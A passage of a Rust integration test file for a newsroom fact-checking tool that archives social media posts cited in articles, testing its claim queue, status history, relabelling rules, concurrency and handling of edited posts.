                );
                assert!(err.contains("is already"), "{err}");
                continue;
            }
            if from.is_verdict() {
                let err = a.fails(&tick(), &["queue", "set", "2", to.as_str(), "--by", "ana"]);
                assert!(err.contains("needs a note"), "{from} -> {to}: {err}");
            }
            a.ok(
                &tick(),
                &[
                    "queue",
                    "set",
                    "2",
                    to.as_str(),
                    "--by",
                    "ana",
                    "--note",
                    "step",
                ],
            );
            expected.push((from, to));
            current = to;
        }
    }
    let claim = a.store().claim(2).unwrap().claim;
    let changes: Vec<(Status, Status)> = claim
        .events
        .iter()
        .filter(|e| e.action == Action::Status)
        .map(|e| (e.from_status.unwrap(), e.to_status.unwrap()))
        .collect();
    assert_eq!(changes, expected);
    for from in Status::ALL {
        for to in Status::ALL {
            assert_eq!(changes.contains(&(from, to)), from != to, "{from} -> {to}");
        }
    }
    assert_eq!(claim.status, current);
    // Nothing was recorded for the refused changes.
    assert_eq!(claim.events.len(), 1 + expected.len());
}

#[test]
fn events_keep_who_when_from_to_and_note() {
    let a = fixture_archive();
    a.ok(
        "2025-03-05T08:00:00Z",
        &["queue", "set", "1", "in_progress", "--by", "ana"],
    );
    a.ok(
        "2025-03-05T09:00:00Z",
        &[
            "queue",
            "set",
            "1",
            "verified",
            "--by",
            "ana",
            "--note",
            "Two sources",
        ],
    );
    // Environment names the actor when --by is not given.
    let out = a
        .command("2025-03-05T10:00:00Z", &["queue", "note", "1", "Published"])
        .env("EMBARC_USER", "bo")
        .output()
        .unwrap();
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    a.ok(
        "2025-03-05T11:00:00Z",
        &["queue", "assign", "1", "cy", "--by", "bo"],
    );
    a.ok(
        "2025-03-05T12:00:00Z",
        &["queue", "assign", "1", "ana", "--by", "bo"],
    );
    let events = &a.json(T0, &["queue", "show", "1", "--json"])["events"];
    let want = serde_json::json!([
        {"at": "2025-03-01T09:00:00.000Z", "actor": "embarc", "action": "created", "from_status": null, "to_status": "unstarted", "assignee": null,
         "note": format!("labelled BREAKING in {}", url::Url::from_file_path(std::fs::canonicalize(FIXTURES).unwrap().join("01-dam.html")).unwrap())},
        {"at": "2025-03-05T08:00:00.000Z", "actor": "ana", "action": "status", "from_status": "unstarted", "to_status": "in_progress", "assignee": null, "note": null},
        {"at": "2025-03-05T09:00:00.000Z", "actor": "ana", "action": "status", "from_status": "in_progress", "to_status": "verified", "assignee": null, "note": "Two sources"},
        {"at": "2025-03-05T10:00:00.000Z", "actor": "bo", "action": "note", "from_status": null, "to_status": null, "assignee": null, "note": "Published"},
        {"at": "2025-03-05T11:00:00.000Z", "actor": "bo", "action": "assign", "from_status": null, "to_status": null, "assignee": "cy", "note": null},
        {"at": "2025-03-05T12:00:00.000Z", "actor": "bo", "action": "assign", "from_status": null, "to_status": null, "assignee": "ana", "note": null},
    ]);
    assert_eq!(events, &want);
    let claim = a.json(T0, &["queue", "show", "1", "--json"]);
    assert_eq!(claim["assignee"], "ana");
    assert_eq!(claim["status"], "verified");
    assert_eq!(claim["updated_at"], "2025-03-05T12:00:00.000Z");
}

#[test]
fn refused_changes_say_why_and_change_nothing() {
    let a = fixture_archive();
    a.ok(T0, &["queue", "assign", "1", "ana", "--by", "desk"]);
    let err = a.fails(T0, &["queue", "assign", "1", "ana", "--by", "desk"]);
    assert!(err.contains("already assigned to ana"), "{err}");
    let err = a.fails(T0, &["queue", "set", "1", "unstarted", "--by", "desk"]);
    assert!(err.contains("claim 1 is already unstarted"), "{err}");
    let err = a.fails(T0, &["queue", "set", "1", "done", "--by", "desk"]);
    assert!(
        err.contains("unknown status \"done\"") && err.contains("in_progress"),
        "{err}"
    );
    let err = a.fails(T0, &["queue", "note", "1", "   ", "--by", "desk"]);
    assert!(err.contains("the note is empty"), "{err}");
    let err = a.fails(T0, &["queue", "set", "1", "verified", "--by", "embarc"]);
    assert!(err.contains("--by NAME"), "{err}");
    let err = a.fails(T0, &["queue", "set", "1", "verified", "--by", " "]);
    assert!(err.contains("is empty"), "{err}");
    let err = a.fails(
        "yesterday",
        &["queue", "set", "1", "verified", "--by", "ana"],
    );
    assert!(
        err.contains("EMBARC_NOW=\"yesterday\" is not a time"),
        "{err}"
    );
    let claim = a.store().claim(1).unwrap().claim;
    assert_eq!(claim.status, Status::Unstarted);
    assert_eq!(claim.events.len(), 2, "created + assign only");
}

// ---------------------------------------------------------------------------
// queue add
// ---------------------------------------------------------------------------

fn post_count(a: &Archive) -> usize {
    a.ok(T0, &["export", "posts"]).lines().count()
}

#[test]
fn add_queues_known_and_unknown_posts_once() {
    let a = fixture_archive();
    let posts = post_count(&a);
    // A post the archive knows (cited in 01-dam.html): no new post.
    let id = a.ok(
        "2025-03-04T09:00:00Z",
        &[
            "queue",
            "add",
            HYPERLINK_POST,
            "--reason",
            "fake video",
            "--by",
            "desk",
        ],
    );
    assert_eq!(id.trim(), "4");
    assert_eq!(post_count(&a), posts);
    let known = a.json(T0, &["queue", "show", "4", "--json"]);
    assert_eq!(known["label"], "MANUAL");
    assert_eq!(known["reason"], "fake video");
    assert_eq!(known["post"]["author_name"], "Totally Real");
    assert_eq!(known["events"][0]["actor"], "desk");
    assert_eq!(known["events"][0]["note"], "fake video");

    // An unknown post is recorded from its URL first.
    let out = a.run(
        "2025-03-04T10:00:00Z",
        &[
            "queue",
            "add",
            UNKNOWN_POST,
            "--reason",
            "check",
            "--by",
            "desk",
        ],
    );
    assert!(out.status.success());
    assert!(String::from_utf8_lossy(&out.stderr).contains("was not in the archive"));
    assert_eq!(post_count(&a), posts + 1);
    let new = a.json(T0, &["queue", "show", "5", "--json"]);
    assert_eq!(
        new["post"]["post_url"],
        "https://x.com/someone_else/status/1848631530214654141"
    );
    assert_eq!(new["post"]["handle"], "someone_else");
    assert_eq!(new["post"]["date"], "2024-10-22");
    assert_eq!(new["post"]["first_seen_at"], "2025-03-04T10:00:00.000Z");
    assert_eq!(new["post"]["text"], Value::Null);

    // Any URL form of a queued post is refused, naming the claim.
    for url in [
        UNKNOWN_POST,
        "https://twitter.com/someone_else/status/1848631530214654141",
        DAM_URL,
    ] {
        let err = a.fails(
            T0,
            &["queue", "add", url, "--reason", "again", "--by", "desk"],
        );
        assert!(err.contains("is already in the queue as claim"), "{err}");
    }
    let err = a.fails(
        T0,
        &[
            "queue",
            "add",
            "https://x.com/someone_else",
            "--reason",
            "r",
            "--by",
            "desk",
        ],
    );
    assert!(err.contains("is not a link to a single post"), "{err}");
    let err = a.fails(
        T0,
        &[
            "queue",
            "add",
            "https://vm.tiktok.com/ZMabc123/",
            "--reason",
            "r",
            "--by",
            "desk",
        ],
    );
    assert!(err.contains("short link"), "{err}");
    let err = a.fails(T0, &["queue", "add", UNKNOWN_POST, "--by", "desk"]);
    assert!(err.contains("--reason"), "{err}");
    assert_eq!(post_count(&a), posts + 1);
    assert_eq!(
        ids(&a.json(T0, &["queue", "--all", "--json"])),
        [1, 2, 3, 4, 5]
    );
}

#[test]
fn add_creates_the_archive_when_there_is_none() {
    let a = Archive::new();
    a.ok(
        T0,
        &[
            "queue",
            "add",
            DAM_URL,
            "--reason",
            "seen on TV",
            "--by",
            "desk",
        ],
    );
    let all = a.json(T0, &["queue", "--all", "--json"]);
    assert_eq!(ids(&all), [1]);
    assert_eq!(all[0]["post"]["posted_at"], "2023-11-05T12:38:26.647Z");
    // Archiving an article that cites it later fills in the post, no second claim.
    a.ok(T0, &["archive", FIXTURES]);
    let all = a.json(T0, &["queue", "--all", "--json"]);
    assert_eq!(all[0]["label"], "MANUAL");
    assert_eq!(all[0]["post"]["author_name"], "Flood Watch");
    assert_eq!(ids(&all), [1, 2, 3]);
}

// ---------------------------------------------------------------------------
// Labels in embarc.toml and relabel
// ---------------------------------------------------------------------------

#[test]
fn relabel_adds_claims_for_new_rules_without_duplicates() {
    let a = fixture_archive();
    a.ok(T0, &["queue", "set", "2", "verified", "--by", "ana"]);
    assert_eq!(ids(&a.json(T0, &["queue", "--all", "--json"])), [1, 2, 3]);
    a.settings("[labels]\ndisable = [\"just in\"]\n[labels.extra]\n\"alerta\" = \"BREAKING\"\n");
    let r = a.json("2025-03-06T00:00:00Z", &["queue", "relabel", "--json"]);
    assert_eq!(
        r,
        serde_json::json!({"snapshots": 5, "changed": 2, "new_claims": 1, "unlabelled_claims": 1})
    );
    let all = a.json(T0, &["queue", "--all", "--json"]);
    assert_eq!(ids(&all), [1, 2, 3, 4]);
    let bridge = &all[3];
    assert_eq!(bridge["label"], "BREAKING");
    assert_eq!(bridge["post"]["handle"], "proteccion_rv");
    assert_eq!(bridge["post"]["labels"], serde_json::json!(["BREAKING"]));
    assert_eq!(bridge["created_at"], "2025-03-06T00:00:00.000Z");
    assert!(
        bridge["events"][0]["note"]
            .as_str()
            .unwrap()
            .contains("03-bridge.html when the archive was relabelled")
    );
    // The JUST IN claim lost its label but keeps its history and decision.
    assert_eq!(all[1]["status"], "verified");
    assert_eq!(all[1]["post"]["labels"], serde_json::json!([]));

    // Again: nothing changes, nothing is duplicated.
    let r = a.json("2025-03-07T00:00:00Z", &["queue", "relabel", "--json"]);
    assert_eq!(
        r,
        serde_json::json!({"snapshots": 5, "changed": 0, "new_claims": 0, "unlabelled_claims": 1})
    );
    assert_eq!(
        ids(&a.json(T0, &["queue", "--all", "--json"])),
        [1, 2, 3, 4]
    );

    // Back to the defaults: labels return, the claims are the same four.
    a.settings("");
    let r = a.json("2025-03-08T00:00:00Z", &["queue", "relabel", "--json"]);
    assert_eq!(r["changed"], 2);
    assert_eq!(r["new_claims"], 0);
    assert_eq!(r["unlabelled_claims"], 1, "the ALERTA claim is kept");
    assert_eq!(
        ids(&a.json(T0, &["queue", "--all", "--json"])),
        [1, 2, 3, 4]
    );
    // Re-archiving the same articles under the default rules adds nothing.
    let out = a.ok(T0, &["archive", "--json", FIXTURES]);
    let summary: Value = serde_json::from_str(&out).unwrap();
    assert_eq!(summary["new_claims"], 0);
}

#[test]
fn archive_applies_the_configured_labels() {
    let a = Archive::new();
    std::fs::create_dir_all(a.dir()).unwrap();
    a.settings("[labels.extra]\n\"alerta\" = \"BREAKING\"\n");
    a.ok(T0, &["archive", "--jobs", "1", FIXTURES]);
    let all = a.json(T0, &["queue", "--json", "--label", "breaking"]);
    let handles: Vec<&str> = all
        .as_array()
        .unwrap()
        .iter()
        .map(|c| c["post"]["handle"].as_str().unwrap())
        .collect();
    assert_eq!(handles, ["floodwatch_eu", "novosti24_ru", "proteccion_rv"]);
    // Relabelling with the same rules finds nothing to do.
    let r = a.json(T0, &["queue", "relabel", "--json"]);
    assert_eq!(
        (r["changed"].as_u64(), r["new_claims"].as_u64()),
        (Some(0), Some(0))
    );
}

#[test]
fn relabel_keeps_snapshots_that_become_identical() {
    // One post seen twice with the same text under different rules: two
    // snapshots differing only in their labels. Relabelling makes them equal;
    // both rows stay, both carry the new labels.
    let a = Archive::new();
    let articles = a.tmp.path().join("articles");
    std::fs::create_dir_all(&articles).unwrap();
    std::fs::create_dir_all(a.dir()).unwrap();
    let page = std::fs::read_to_string(Path::new(FIXTURES).join("03-bridge.html")).unwrap();
    let first = articles.join("first.html");
    let second = articles.join("second.html");
    std::fs::write(&first, &page).unwrap();
    std::fs::write(
        &second,
        page.replace("</article>", "<p>Update: still closed.</p></article>"),
    )
    .unwrap();
    let alerta = "[labels.extra]\n\"alerta\" = \"BREAKING\"\n";
    a.settings(alerta);
    a.ok(T0, &["archive", first.to_str().unwrap()]);
    a.settings("");
    a.ok(T0, &["archive", second.to_str().unwrap()]);
    let labels = |a: &Archive| -> Vec<Value> {
        a.json(T0, &["queue", "show", "1", "--json"])["snapshots"]
            .as_array()
            .unwrap()
            .iter()
            .map(|s| s["labels"].clone())
            .collect()
    };
    assert_eq!(
        labels(&a),
        [serde_json::json!(["BREAKING"]), serde_json::json!([])]
    );
    a.settings(alerta);
    let r = a.json(T0, &["queue", "relabel", "--json"]);
    assert_eq!(r["changed"], 1);
    assert_eq!(r["new_claims"], 0);
    assert_eq!(
        labels(&a),
        [
            serde_json::json!(["BREAKING"]),
            serde_json::json!(["BREAKING"])
        ]
    );
}

#[test]
fn bad_label_settings_stop_before_anything_is_written() {
    let a = Archive::new();
    std::fs::create_dir_all(a.dir()).unwrap();
    a.settings("[labels]\ndisable = [\"breakng\"]\n");
    let err = a.fails(T0, &["archive", FIXTURES]);
    assert!(
        err.contains("embarc.toml") && err.contains("\"breakng\""),
        "{err}"
    );
    assert!(!a.db().exists());
}

// ---------------------------------------------------------------------------
// Concurrency
// ---------------------------------------------------------------------------

/// The status events of a claim form one unbroken chain from `unstarted`,
/// and the claim's status is the last event's `to_status`.
fn assert_unbroken_history(store: &Store, id: i64, changes: usize) {
    let claim = store.claim(id).unwrap().claim;
    let statuses: Vec<_> = claim
        .events
        .iter()
        .filter(|e| e.action == Action::Status)
        .collect();
    assert_eq!(statuses.len(), changes, "every accepted change is an event");
    let mut at = Status::Unstarted;
    for e in &statuses {
        assert_eq!(
            e.from_status,
            Some(at),
            "a change was made from a stale status"
        );
        at = e.to_status.unwrap();
    }
    assert_eq!(claim.status, at);
}

#[test]
fn concurrent_changes_from_threads_never_lose_an_event() {
    let a = fixture_archive();
    let db = a.db();
    const THREADS: usize = 4;
    const EACH: usize = 30;
    let accepted: usize = std::thread::scope(|s| {
        let handles: Vec<_> = (0..THREADS)
            .map(|t| {
                let db = db.clone();
                s.spawn(move || {
                    let store = Store::open(&db).unwrap();
                    let mut ok = 0;
                    for i in 0..EACH {
                        let to = Status::ALL[(t + i) % Status::ALL.len()];
                        match store.set_claim_status(1, to, Some("race"), &format!("t{t}")) {
                            Ok(_) => ok += 1,
                            Err(e) => assert!(
                                matches!(
                                    e,
                                    embarc::store::Error::Refused {
                                        reason: Refusal::SameStatus { .. }
                                    }
                                ),
                                "only a same-status refusal is expected, got: {e:#}"
                            ),
                        }
                    }
                    ok
                })
            })
            .collect();
        handles.into_iter().map(|h| h.join().unwrap()).sum()
    });
    assert!(accepted > THREADS * EACH / 2, "{accepted}");
    assert_unbroken_history(&a.store(), 1, accepted);
}

#[test]
fn concurrent_changes_from_processes_never_lose_an_event() {
    let a = fixture_archive();
    const EACH: usize = 8;
    let accepted: usize = std::thread::scope(|s| {
        let handles: Vec<_> = ["ana", "bo"]
            .into_iter()
            .enumerate()
            .map(|(p, who)| {
                let a = &a;
                s.spawn(move || {
                    let mut ok = 0;
                    for i in 0..EACH {
                        let to = Status::ALL[(p * 2 + i) % Status::ALL.len()].as_str();
                        let mut cmd = a.command(
                            T0,
                            &["queue", "set", "1", to, "--note", "race", "--by", who],
                        );
                        cmd.env_remove("EMBARC_NOW");
                        let out = cmd.output().unwrap();
                        match out.status.code() {
                            Some(0) => ok += 1,
                            _ => {
                                let err = String::from_utf8_lossy(&out.stderr);
                                assert!(err.contains("is already"), "{err}");
                            }
                        }
                    }
                    ok
                })
            })
            .collect();
        handles.into_iter().map(|h| h.join().unwrap()).sum()
    });
    assert!(accepted > 0);
    assert_unbroken_history(&a.store(), 1, accepted);
}

#[test]
fn a_claim_keeps_the_text_the_article_showed_after_the_post_is_edited() {
    let a = fixture_archive();
    check_support::fast_config(&a.dir());
    // The platform now shows an edited text: the check keeps it as an
    // endpoint snapshot, but the claim is about what the article amplified.
    let server = Server::start(move |req| {
        let route = req.path.split(['/', '?']).nth(1).unwrap_or_default();
        match route {
            "syn" if req.path.contains(DAM_ID) => Reply::status(
                200,
                "application/json",
                format!(
                    r#"{{"__typename":"Tweet","id_str":"{DAM_ID}","text":"Correction: the dam held.","created_at":"2023-11-05T12:38:26.000Z","lang":"en","user":{{"name":"Flood Watch","screen_name":"floodwatch_eu"}}}}"#
                )
                .as_str(),
            ),
            _ => Reply::status(500, "text/plain", "unavailable"),
        }
    });
    check_posts(&a, &server, ALIVE_AT);
    let show = a.json(T0, &["queue", "show", "1", "--json"]);
    let text = show["post"]["text"].as_str().unwrap_or_default();
    assert!(
        text.starts_with("🚨 BREAKING: The dam upstream"),
        "{show:#}"
    );
    let sources: Vec<&str> = show["snapshots"]
        .as_array()
        .unwrap()
        .iter()
        .filter_map(|s| s["source"].as_str())
        .collect();
    assert!(sources.contains(&"x_syndication"), "{sources:?}");
    // The hand-query view agrees.
    let db = rusqlite::Connection::open(a.dir().join("embarc.db")).unwrap();
    let open: String = db
        .query_row("SELECT text FROM open_queue WHERE claim_id = 1", [], |r| {
            r.get(0)
        })
        .unwrap();
    assert!(open.starts_with("🚨 BREAKING: The dam upstream"), "{open}");
}
